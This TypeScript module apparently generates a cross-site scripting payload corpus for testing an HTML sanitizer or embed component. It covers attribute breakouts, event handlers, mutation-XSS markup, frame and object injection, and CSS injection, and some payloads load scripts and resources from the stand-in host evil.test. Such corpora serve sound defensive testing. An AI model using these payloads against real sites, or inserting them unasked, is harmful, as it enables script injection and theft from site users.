/** Every pair of two lists, joined. */
export const pairs = (heads: readonly string[], tails: readonly string[]): string[] =>
  heads.flatMap(head => tails.map(tail => head + tail));

// Each quote closes the value of an attribute or an argument somewhere; the last one closes an unquoted value.
const QUOTES = ['"', "'", '`', '”', '″', '\\"', '&quot;', ''];
const GAPS = ['>', ' ', '/'];
const TAILS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  'onload=alert(1) a=',
  'srcdoc="<script>alert(1)</script>" a=',
  'src=javascript:alert(1) a=',
  'style=background:url(//evil.test/css) a=',
];

/** Text that ends an attribute, and goes on as markup or as further attributes. */
export const breakouts = (): string[] => pairs(pairs(QUOTES, GAPS), TAILS);

const EVENTS = (
  'abort animationend auxclick beforeinput beforetoggle blur canplay change click contextmenu copy cuechange ' +
  'dragstart ended error focus focusin formdata input keydown load loadstart message mouseover pageshow ' +
  'pointerenter popstate resize scroll select submit toggle transitionend unload wheel begin'
).split(' ');

/** Event handlers, on an element of their own and as an attribute of another. */
export const handlers = (): string[] =>
  EVENTS.flatMap(name => [`<b on${name}=alert(1) tabindex=0 autofocus>b</b>`, `" on${name}="alert(1)`]);

const OUTER = ['svg', 'math', 'select', 'table', 'template', 'noscript', 'form', 'svg><desc', 'math><mtext'];
const INNER = ['style', 'title', 'textarea', 'xmp', 'noembed', 'iframe', 'noframes', 'script', 'plaintext'];
const IMAGE = '<img src=x onerror=alert(1)>';

/** Markup that a parser reads in another way once it has been serialised and parsed again (mutation XSS). */
export const mutations = (): string[] => [
  ...OUTER.flatMap(outer =>
    INNER.map(inner => `<${outer}><${inner}><a title="</${inner}>${IMAGE}"></a></${inner}></${outer}>`),
  ),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<math></br><style><a title="</style>${IMAGE}">`,
  `<math><annotation-xml encoding="text/html"><style><a title="</style>${IMAGE}">`,
  `<svg><foreignObject><p><style><a title="</style>${IMAGE}">`,
  `<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>`,
  `<svg><set attributeName=onmouseover to=alert(1)></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></svg>`,
  `<svg><script href=//evil.test/x.js /></svg>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<template><script>alert(1)</script></template>`,
  `<template shadowrootmode=open>${IMAGE}</template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMAGE}">`,
  `<table><td><select><option><svg><style>${IMAGE}</style></svg></option></select></td></table>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--!> ${IMAGE} -->`,
  `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>${IMAGE}`,
  `<xmp><p title="</xmp>${IMAGE}">`,
  `<image src=x onerror=alert(1)>`,
  `<isindex action=javascript:alert(1) type=image>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>alert(1);//<</script>`,
  `<script\u0000>alert(1)</script>`,
  `<script/src=data:,alert(1)></script>`,
  `<style><style/>${IMAGE}`,
  `<b is="yt-embed" onclick=alert(1)>b</b>`,
  `<yt-embed src=nNFCc3nowfg onclick=alert(1)><script>alert(1)</script></yt-embed>`,
  `<web-embed src="javascript:alert(1)"></web-embed>`,
  `<embed-consent onclick=alert(1)></embed-consent>`,
];

/** Frames whose document is in an attribute, and other elements that load or run something. */
export const documents = (): string[] => [
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>`,
  `<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.alert(1)&gt;></iframe>`,
  `<iframe src="https://www.youtube.com/embed/nNFCc3nowfg" srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.alert(1)"></iframe>`,
  `<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=//evil.test/frame sandbox="allow-same-origin allow-scripts"></iframe>`,
  `<frameset><frame src=javascript:alert(1)></frameset>`,
  `<object data="javascript:alert(1)"></object>`,
  `<object data=//evil.test/object><param name=movie value=//evil.test/movie></object>`,
  `<embed src="javascript:alert(1)">`,
  `<base href=//evil.test/>`,
  `<base target=_top><a href=javascript:alert(1)>x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<link rel=import href=//evil.test/import>`,
  `<link rel=stylesheet href=//evil.test/sheet>`,
  `<link rel=preconnect href=//evil.test>`,
  `<form action=//evil.test/form><button formaction=javascript:alert(1)>x</button></form>`,
  `<video src=//evil.test/video poster=//evil.test/poster autoplay onerror=alert(1)></video>`,
  `<picture><source srcset=//evil.test/source><img srcset="//evil.test/set 2x"></picture>`,
  `<img src=//evil.test/image lowsrc=//evil.test/low dynsrc=//evil.test/dyn>`,
  `<input type=image src=//evil.test/input onerror=alert(1)>`,
  `<table background=//evil.test/table><td background=//evil.test/cell>x</table>`,
  `<a href=//evil.test/ ping=//evil.test/ping>x</a>`,
  `<portal src=//evil.test/portal></portal>`,
  `<fencedframe src=//evil.test/fenced></fencedframe>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<applet code=//evil.test/applet></applet>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["//evil.test/rule"]}]}</script>`,
];

/** CSS in the place of a value: out of a declaration, out of a rule, out of a style sheet. */
export const styles = (): string[] =>
  pairs(
    ['16/9', '300px', '1', ''],
    [
      ';background:url(//evil.test/css)',
      ';}*{background:url(//evil.test/css)}',
      '}</style><script>alert(1)</script>',
      ');background-image:image-set("//evil.test/css" 1x',
      ';behavior:url(//evil.test/htc);-moz-binding:url(//evil.test/xbl)',
      ';width:expression(alert(1))',
      '/**/;position:fixed;inset:0;z-index:9999',
      '\\3b background:url(//evil.test/css)',
      ';@import "//evil.test/css"',
      ' !important;display:none',
      'calc(1px*infinity)',
      'e999',
    ],
  );
